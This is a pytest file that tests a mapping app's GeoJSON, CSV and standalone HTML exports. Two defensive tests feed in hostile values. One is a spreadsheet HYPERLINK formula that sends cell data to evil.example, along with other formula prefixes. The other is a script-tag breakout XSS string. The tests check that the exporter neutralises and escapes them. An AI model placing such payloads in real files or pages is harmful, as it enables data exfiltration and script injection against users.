import csv
import io
import json
import re

from mapapp.render import downloads


def test_geojson_all_layers_and_one_layer(seed_doc):
    everything = json.loads(downloads.geojson_bytes(seed_doc))
    assert everything["type"] == "FeatureCollection"
    assert len(everything["features"]) == len(seed_doc.places)
    sites = json.loads(downloads.geojson_bytes(seed_doc, "sites"))
    assert {f["properties"]["layer"] for f in sites["features"]} == {"sites"}
    assert {f["id"] for f in sites["features"]} == {"baikonur-cosmodrome", "sary-shagan"}


def test_csv_has_one_row_per_mention_with_offsets_and_passage(seed_doc):
    rows = list(csv.DictReader(io.StringIO(downloads.mentions_csv(seed_doc).decode(), newline="")))
    assert len(rows) == len(seed_doc.mentions())
    b = next(r for r in rows if r["place_id"] == "baikonur-cosmodrome")
    assert seed_doc.text[int(b["start"]):int(b["end"])] == b["mention"] == "Kosmodrom Baikonur"
    assert seed_doc.passages[int(b["passage"]) - 1].text.startswith("Drittens")


def test_standalone_html_loads_nothing_from_the_network(seed_doc):
    page = downloads.standalone_html(seed_doc, "seed <test>").decode()
    assert not re.findall(r'<(?:script|link|img)\b[^>]*\b(?:src|href)=', page)
    assert "L.map(" in page and "Baikonur Cosmodrome" in page
    assert "<title>seed &lt;test&gt;</title>" in page
    assert "url(images/" not in page


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(seed_doc):
    from dataclasses import replace

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Almaty")', "+1+2", "-2+3", "@SUM(A1)",
               "\t=1+1", "\r=1+1"]
    places = [replace(p, name=name) for p, name in zip(seed_doc.places, hostile)]
    places = [replace(places[0], lon=-12.5), *places[1:]]
    doc = replace(seed_doc, places=places)
    rows = list(csv.DictReader(io.StringIO(downloads.mentions_csv(doc).decode(), newline="")))
    assert {r["place"] for r in rows} == {"'" + name for name in hostile}
    assert {r["lon"] for r in rows if r["place"].startswith("'=HYPERLINK")} == {"-12.50000"}
    assert len(rows) == len(doc.mentions())


def test_csv_cell_leaves_ordinary_text_alone():
    assert downloads.csv_cell("Almaty") == "Almaty"
    assert downloads.csv_cell("Sary-Shagan") == "Sary-Shagan"


def test_standalone_html_carries_the_text_and_keeps_markup_in_names_as_text(seed_doc):
    from dataclasses import replace

    name = "</script><script>alert(1)</script>"
    doc = replace(seed_doc, places=[replace(p, name=name) if p.id == "sary-shagan" else p
                                    for p in seed_doc.places])
    page = downloads.standalone_html(doc).decode()
    assert page.count("<script>alert(1)") == 0
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)" in page
    assert all(f">¶{p.index + 1}</button>" in page for p in doc.passages)
